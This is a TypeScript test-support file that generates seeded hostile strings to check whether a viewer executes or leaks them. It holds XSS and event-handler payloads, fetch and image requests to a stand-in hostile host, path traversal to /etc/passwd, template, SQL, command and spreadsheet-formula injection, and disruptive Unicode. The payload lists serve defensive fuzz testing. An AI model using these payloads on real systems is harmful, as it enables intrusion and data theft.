/**
 * TEST SUPPORT: texts that screens, models and files could hold to attack their viewer. Each that runs sets
 * `window.ran`, opens a dialog or requests `ADDRESS`, where tests detect it.
 */
import { createRandom } from '../random.ts';

/** No server is at this address: the request itself is the fault. */
export const ADDRESS = 'http://hostile.invalid';
const MEGABYTE = 1 << 20;

const RUN = 'window.ran=(window.ran||0)+1';
const CODES = [RUN, 'alert(1)', `fetch('${ADDRESS}')`, `new Image().src='${ADDRESS}'`, 'document.body.innerHTML=""'];
const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbegin'];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'marquee',
  'style',
];
/** Ends of the context that contains a text: an element, an attribute, a comment, a string, a template. */
const ENDS = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '\\"',
  '`',
  '${',
  '*/',
  '\n\n',
];

const SCRIPTS = CODES.flatMap((code) => [
  `<script>${code}</script>`,
  `<ScRiPt/x>${code}//</sCrIpT>`,
  `<script src="${ADDRESS}/a.js">${code}</script>`,
  `<svg><script>${code}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${code}">`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<template><img src=x onerror=${code}></template>`,
  `javascript:${code}`,
  `jAvAsCrIpT:${code}`,
  `java\tscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `vbscript:${code}`,
]);
const HANDLERS = EVENTS.flatMap((event) => TAGS.map((tag) => `<${tag} ${event}="${RUN}">`));
const ADDRESSES = [
  `${ADDRESS}/?a=1`,
  `//hostile.invalid/x`,
  `[look](${ADDRESS})`,
  `![](${ADDRESS}/a.png)`,
  `<a href="${ADDRESS}" target=_top>here</a>`,
  `<base href="${ADDRESS}">`,
  `<link rel=stylesheet href="${ADDRESS}/a.css">`,
  `<meta http-equiv=refresh content="0;url=${ADDRESS}">`,
  `<form action="${ADDRESS}"><button>Go</button></form>`,
  `@import url(${ADDRESS}/a.css);`,
  `background:url(${ADDRESS}/a.png)`,
  `}</style><style>*{display:none!important;background:url(${ADDRESS})}`,
  'file:///etc/passwd',
  '../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'C:\\Windows\\win.ini',
  '\\\\hostile.invalid\\share',
];
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{% include 'x' %}{{ 7 | times: 7 }}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{"__proto__":{"isAdmin":true}}`,
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '<!--#exec cmd="id"-->',
  '$(id)',
  '`id`',
  "'; DROP TABLE rows; --",
  '" OR ""="',
  '=cmd|" /C calc"!A0',
  '%s%s%n',
  '\u001b]0;title\u0007\u001b[2J',
];
const CHARACTERS = [
  '\u0000nul\u0000',
  '\u0007\b\u007f\u0085',
  'a\r\nSet-Cookie: x=1',
  '\u2028line\u2029paragraph',
  '\ud800',
  'x\udc00y\udfff',
  '\ud83d',
  '\ufffe\uffff',
  '\ufeffbom',
  '\u202egnp.exe',
  '\u2067\u202e\u2066nested\u202d',
  '\u202e'.repeat(500),
  'مرحبا بالعالم',
  'שלום (עולם) <b>',
  'e' + '\u0301'.repeat(300),
  'Z' + '\u0336\u0353\u0489'.repeat(100),
  '👩‍👩‍👧‍👦'.repeat(50),
  '\u200b\u200c\u200d\u2060',
  ' ',
  '\t\n\v\f',
  '\u3164',
  'ﷺ﷽'.repeat(40),
  '０１２．／．．／',
  'İıſK',
];
/** A megabyte each, most of them without a place to break a line. */
export const LONG_STRINGS = [
  'w'.repeat(MEGABYTE),
  '<b>'.repeat(MEGABYTE / 3),
  '\u202eא'.repeat(MEGABYTE / 2),
  'word '.repeat(MEGABYTE / 5),
];

/**
 * The same `count` strings for the same seed, all different: from every family, mostly those that end another context.
 */
export function makeHostileStrings(count: number, seed = 1): string[] {
  const random = createRandom(seed);
  const families = [SCRIPTS, HANDLERS, ADDRESSES, TEMPLATES, CHARACTERS];
  const made = new Set<string>();
  // A fifth are unchanged, as far as the smaller families suffice.
  for (let at = 0; at < count / 5; at++) made.add(random.pick(families[at % families.length]!));
  while (made.size < count) {
    const [family, other] = [random.pick(families), random.pick(families)];
    const rest = random.below(3) === 0 ? random.pick(other) : '';
    made.add(`${random.pick(ENDS)}${random.pick(family)}${random.pick(ENDS)}${rest}`);
  }
  return [...made];
}
